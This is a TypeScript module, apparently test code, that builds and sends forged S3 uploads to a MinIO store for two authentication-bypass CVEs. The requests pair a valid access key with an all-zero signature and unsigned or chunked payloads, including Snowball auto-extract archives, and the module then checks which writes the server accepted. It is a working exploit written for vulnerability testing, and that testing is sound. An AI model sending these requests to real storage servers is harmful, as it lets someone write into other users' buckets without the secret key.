// Uploads that claim a signed request with an unsigned payload and carry a signature of zeros (CVE-2026-41145, CVE-2026-40344). They are
// plain data, so that a program in a pod can send them too.

import { once } from 'node:events'
import { connect, createServer, type Server } from 'node:net'
import { crc32 } from 'node:zlib'
import type { Client } from 'minio'
import { type StoreKeys, signStoreRequest } from './store-requests.ts'

/** One HTTP request; the body is in base64. */
export interface RawRequest {
  name: string
  /** Path and query. */
  target: string
  headers: Record<string, string>
  body: string
}

export interface UnsignedTarget {
  bucket: string
  /** A valid key id of the store. */
  accessKey: string
  region?: string
  /** Keys are written below this folder. */
  folder: string
  /** An open multipart upload of `<folder>/part`. */
  uploadId: string
  now?: Date
}

export const FORGED_CONTENT = 'written without a secret'
const BLOCK = 512

/** An archive of one file, as Snowball uploads are. */
export function tarOf(name: string, content: string): Buffer {
  const header = Buffer.alloc(BLOCK)
  const field = (text: string, at: number): void => void header.write(text, at, 'latin1')
  field(name, 0)
  field('0000600\0', 100)
  field('0000000\0', 108)
  field('0000000\0', 116)
  field(`${Buffer.byteLength(content).toString(8).padStart(11, '0')}\0`, 124)
  field('00000000000\0', 136)
  field('        ', 148) // the checksum is computed with spaces in its own field
  field('0', 156)
  field('ustar\x0000', 257)
  const sum = header.reduce((total, byte) => total + byte, 0)
  field(`${sum.toString(8).padStart(6, '0')}\0 `, 148)
  const data = Buffer.alloc(Math.ceil(Buffer.byteLength(content) / BLOCK) * BLOCK)
  data.write(content)
  return Buffer.concat([header, data, Buffer.alloc(2 * BLOCK)])
}

const TRAILER = 'x-amz-checksum-crc32'

/** Headers of `aws-chunked` without signed chunks, with a checksum after them. */
export const chunkedHeaders = (content: Buffer): Record<string, string> => ({
  'content-encoding': 'aws-chunked',
  'x-amz-decoded-content-length': String(content.length),
  'x-amz-trailer': TRAILER,
})

/** The body to those headers. */
export function chunked(content: Buffer): Buffer {
  const checksum = Buffer.alloc(4)
  checksum.writeUInt32BE(crc32(content))
  const end = `\r\n0\r\n${TRAILER}:${checksum.toString('base64')}\r\n\r\n`
  return Buffer.concat([Buffer.from(`${content.length.toString(16)}\r\n`), content, Buffer.from(end)])
}

/** PUT, part and extract, each with a chunked and a raw body, each with the credentials in the query and in headers. */
export function unsignedWrites({
  bucket,
  accessKey,
  region = 'us-east-1',
  folder,
  uploadId,
  now = new Date(),
}: UnsignedTarget): RawRequest[] {
  const time = now.toISOString().replace(/[-:]|\.\d{3}/g, '')
  const credential = `${accessKey}/${time.slice(0, 8)}/${region}/s3/aws4_request`
  const signature = '0'.repeat(64)
  const writes = ['chunked', 'raw'].flatMap((encoding) => [
    { kind: 'PUT', encoding, key: `put-${encoding}`, content: Buffer.from(FORGED_CONTENT) },
    { kind: 'part', encoding, key: 'part', content: Buffer.from(FORGED_CONTENT) },
    { kind: 'extract', encoding, key: `archive-${encoding}.tar`, content: tarOf(`extracted-${encoding}`, FORGED_CONTENT) },
  ])
  return writes.flatMap(({ kind, encoding, key, content }) =>
    ['query', 'header'].map((place): RawRequest => {
      const headers: Record<string, string> = { 'x-amz-content-sha256': 'STREAMING-UNSIGNED-PAYLOAD-TRAILER' }
      const query = new URLSearchParams(kind === 'part' ? { partNumber: '1', uploadId } : {})
      if (kind === 'extract')
        Object.assign(headers, { 'x-amz-meta-snowball-auto-extract': 'true', 'x-amz-meta-minio-snowball-prefix': folder })
      if (encoding === 'chunked') Object.assign(headers, chunkedHeaders(content))
      if (place === 'query') {
        const signed = { Algorithm: 'AWS4-HMAC-SHA256', Credential: credential, Date: time, Expires: '600', SignedHeaders: 'host' }
        for (const [name, value] of Object.entries({ ...signed, Signature: signature })) query.set(`X-Amz-${name}`, value)
      } else {
        headers['x-amz-date'] = time
        const names = ['host', ...Object.keys(headers).filter((name) => name.startsWith('x-amz-'))].sort().join(';')
        headers.authorization = `AWS4-HMAC-SHA256 Credential=${credential}, SignedHeaders=${names}, Signature=${signature}`
      }
      const search = query.size === 0 ? '' : `?${query}`
      const body = (encoding === 'chunked' ? chunked(content) : content).toString('base64')
      return { name: `${kind}, ${encoding}, credentials in the ${place}`, target: `/${bucket}/${folder}/${key}${search}`, headers, body }
    }),
  )
}

export type AttackResult = Awaited<ReturnType<typeof attackStore>>

/** The uploads that upstream accepts. */
export const ACCEPTED_UPSTREAM = [
  'PUT, chunked, credentials in the query',
  'part, chunked, credentials in the query',
  'extract, raw, credentials in the query',
  'extract, raw, credentials in the header',
]

/** Sends all forged uploads to `endpoint`. `client` reads the keys in the bucket afterwards, and the number of parts of the attacked multipart upload. */
export async function attackStore(keys: StoreKeys, client: Client, bucket: string, endpoint = keys.endpoint) {
  const uploadId = await client.initiateNewMultipartUpload(bucket, 'users/victim/part', {})
  const target = { bucket, accessKey: keys.accessKey, folder: 'users/victim', uploadId }
  const answers: { name: string; status: number; code: string }[] = []
  for (const { name, target: path, headers, body } of unsignedWrites(target)) {
    const response = await fetch(endpoint + path, { method: 'PUT', headers, body: Buffer.from(body, 'base64') })
    answers.push({ name, status: response.status, code: /<Code>(.*?)<\/Code>/.exec(await response.text())?.[1] ?? '' })
  }
  const query = `uploadId=${encodeURIComponent(uploadId)}`
  const { url, headers } = signStoreRequest(keys, 'GET', `/${bucket}/users/victim/part?${query}`, 'UNSIGNED-PAYLOAD')
  const parts = (await (await fetch(url, { headers })).text()).match(/<PartNumber>/g)?.length ?? 0
  return { answers, keys: await listKeys(client, bucket), parts }
}

/** All keys of a bucket, in order. */
export const listKeys = async (client: Client, bucket: string): Promise<string[]> =>
  (await client.listObjectsV2(bucket, '', true).toArray()).map(({ name }) => name ?? '').sort()

/** Forwards connections to `address` to a port on loopback, like a Service of type LoadBalancer. */
export async function forward(address: string, port: number): Promise<Server> {
  const server = createServer((client) => {
    const store = connect(port, '127.0.0.1')
    client.pipe(store).pipe(client)
    client.on('error', () => store.destroy())
    store.on('error', () => client.destroy())
  })
  await once(server.listen(port, address), 'listening')
  return server
}
